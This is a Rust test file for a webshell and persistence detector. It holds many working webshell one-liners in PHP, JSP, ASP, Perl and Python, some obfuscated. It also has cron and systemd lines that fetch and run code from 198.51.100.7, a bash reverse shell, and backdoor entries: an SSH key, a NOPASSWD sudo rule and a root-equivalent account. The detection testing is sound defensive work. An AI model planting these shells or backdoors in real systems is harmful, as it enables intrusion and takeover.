//! Webshells and ways in as attackers write them, and ordinary code that looks like them.

use super::judge;

fn rules(path: &str, content: &str) -> Vec<String> {
    judge(path.as_bytes(), None, content.as_bytes()).into_iter().map(|finding| finding.rule.into_owned()).collect()
}

#[test]
fn a_webshell_is_found_however_it_is_written() {
    for shell in [
        "<?php eval($_POST['x']);",
        "<?php @eval ( \"$_POST[x]\" ) ;?>",
        "<?= `$_GET[0]` ?>",
        "<?php system($_REQUEST['cmd'].' 2>&1');",
        "<?php $c = $_GET['c']; echo shell_exec($c);",
        "<?php $k = trim($_COOKIE['k']); $x = base64_decode($k); eval($x);",
        "<?php eval(gzinflate(base64_decode('80jNyclXyFTPVSjOzE1VKE4tLgYA')));",
        "<?php $a='sys'.'tem'; $a($_GET['q']);",
        "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_POST[1]);",
        "<?php $f = chr(97).chr(115).chr(115).'ert'; $f($_POST[1]);",
        "<?php $_GET['f']($_GET['a']);",
        "<?php ('sys'.'tem')($_GET['a']);",
        "<?php call_user_func($_POST['f'], $_POST['a']);",
        "<?php array_map('assert', array($_POST['x']));",
        "<?php /* harmless */ eval/* x */(/**/$_POST/**/['x']);",
        "<?php preg_replace('/.*/e', $_POST['x'], '');",
        "<?php include 'php://input';",
        "<?php eval(file_get_contents('php://input'));",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
        "<html><?php if(isset($_SERVER['HTTP_X'])) passthru($_SERVER['HTTP_X']); ?></html>",
        "<?php function run($a){ return $a; }\nfunction go(){ $p = $_POST['p']; $q = strrev($p); assert($q); }",
        "<?php $code = str_rot13('riny'); $b = base64_decode(\"ZXZhbA==\"); create_function('', $b);",
    ] {
        assert!(!rules("/srv/www/x.php", shell).is_empty(), "{shell}");
    }
    for (path, shell) in [
        ("/srv/www/a.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("/srv/www/a.asp", "<%eval request(\"x\")%>"),
        ("/srv/www/a.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>"),
        ("/srv/cgi-bin/a.pl", "#!/usr/bin/perl\nuse CGI; my $q = CGI->new; system($q->param('c'));"),
        ("/srv/cgi-bin/a.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"),
        ("/srv/www/a.gif", "GIF89a\x01<?php eval($_POST[1]); ?>"),
        ("/srv/www/.htaccess", "AddType application/x-httpd-php .jpg\n"),
        ("/srv/www/.user.ini", "auto_prepend_file = a.gif\n"),
    ] {
        assert!(!rules(path, shell).is_empty(), "{path}: {shell}");
    }
}

#[test]
fn ordinary_code_raises_nothing() {
    for code in [
        "<?php echo htmlspecialchars($_POST['x']);",
        "<?php // eval($_POST['x'])\n/* system($_GET[1]) */ # exec($_GET[2])\necho 1;",
        "<?php echo 'never call eval($_POST[\"x\"]) or system($_GET[1])';",
        "<?php $id = (int) $_GET['id']; exec('convert ' . escapeshellarg($_FILES['f']['name']));",
        "<?php class A { function exec($q) { return $this->db->exec($q); } } $a->exec($_GET['x']); A::system($_POST['y']);",
        "<?php $data = base64_decode($_POST['image']); file_put_contents($path, $data);",
        "<?php $config = unserialize(gzuncompress($cache)); require __DIR__ . '/vendor/autoload.php';",
        "<?php $callback($_POST['field']); $this->handlers[$name]($_GET['x']);",
        "<?php $q = \"SELECT `name` FROM `users` WHERE id = ?\"; $row = $db->query($q, $_GET['id']);",
        "<?php function eval_expr($x) { return my_eval($_POST['x']); }",
        "<?xml version=\"1.0\"?><a>eval($_POST[1])</a>",
    ] {
        assert_eq!(rules("/srv/www/x.php", code), Vec::<&str>::new(), "{code}");
    }
    for (path, content) in [
        ("/srv/www/.htaccess", "RewriteEngine On\nAddType image/svg+xml .svg\nAddHandler application/x-httpd-php .php\n"),
        ("/srv/www/a.gif", "GIF89a and then bytes <? of any kind <?="),
        ("/etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/curl -fsS https://example.org/health\nPrivateTmp=yes\n"),
        ("/etc/sudoers", "# ann ALL=(ALL) ALL\nDefaults env_reset\n"),
    ] {
        assert_eq!(rules(path, content), Vec::<&str>::new(), "{path}");
    }
}

#[test]
fn what_runs_by_itself_may_not_fetch_or_decode() {
    for (content, rule) in [
        ("*/5 * * * * root curl -s http://198.51.100.7/x | bash\n", "fetches-and-runs"),
        ("* * * * * root bash -c \"$(wget -qO- http://198.51.100.7/x)\"\n", "fetches-and-runs"),
        ("@reboot root echo aGk= | base64 -d | sh\n", "decodes-and-runs"),
        ("[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n", "shell-over-the-network"),
        ("[Service]\nExecStart=/dev/shm/.x\n", "runs-from-a-place-of-anybody"),
        ("@reboot /home/ann/.cache/.x\n", "runs-a-hidden-file"),
    ] {
        assert!(rules("/etc/cron.d/x", content).contains(&rule.to_owned()), "{content}: {:?}", rules("/etc/cron.d/x", content));
    }
}

#[test]
fn only_what_was_added_is_told() {
    let old = "ssh-ed25519 AAAA ann@home\n";
    let new = "ssh-ed25519 AAAA ann@home\ncommand=\"x\" ssh-rsa BBBB evil\n";
    let told = judge(b"/root/.ssh/authorized_keys", Some(old.as_bytes()), new.as_bytes());
    assert_eq!(told.iter().map(|finding| finding.sentence.as_str()).collect::<Vec<_>>(), ["SSH key added: ssh-rsa evil"]);
    let told = judge(b"/etc/sudoers.d/x", Some(b""), b"ann ALL=(ALL) NOPASSWD: ALL\n");
    assert_eq!(told[0].sentence, "sudo rule added: ann ALL=(ALL) NOPASSWD: ALL");
    let told = judge(b"/etc/passwd", Some(b"root:x:0:0::/root:/bin/sh\n"), b"root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\n");
    assert_eq!(told[0].sentence, "account with the rights of root: toor");
    assert!(judge(b"/root/.ssh/authorized_keys", None, old.as_bytes()).is_empty(), "nobody knows what was there before");
    let shell = b"<?php eval($_POST[1]);";
    assert!(judge(b"/w/a.php", Some(shell), shell).is_empty(), "it was so before");
}
